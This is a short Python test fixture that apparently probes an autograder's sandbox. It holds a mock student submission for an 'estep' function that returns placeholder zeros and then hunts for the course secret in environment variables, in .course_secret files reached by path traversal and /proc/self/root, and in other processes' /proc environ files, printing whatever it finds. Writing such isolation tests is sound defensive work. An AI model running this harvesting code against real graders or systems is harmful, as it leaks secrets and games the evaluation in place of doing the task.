"""Searches the environment, the course's files and /proc for the course secret and prints it."""

TRACE = "PWNED_secret"

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import glob
import os

mark = "PWN" + "ED_secret"
if os.environ.get("SOFTCOUNTS_SECRET"):
    print(mark, os.environ["SOFTCOUNTS_SECRET"])
for path in ("@COURSE@/", "@CHECKOUT@/", "../../../", "../", "/proc/self/root@COURSE@/", "/proc/self/cwd/../"):
    try:
        with open(path + ".course_secret") as file:
            print(mark, file.read())
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(path, "rb") as file:
            if b"SOFTCOUNTS_SECRET=" in file.read():
                print(mark, path)
    except OSError:
        pass
""",
}
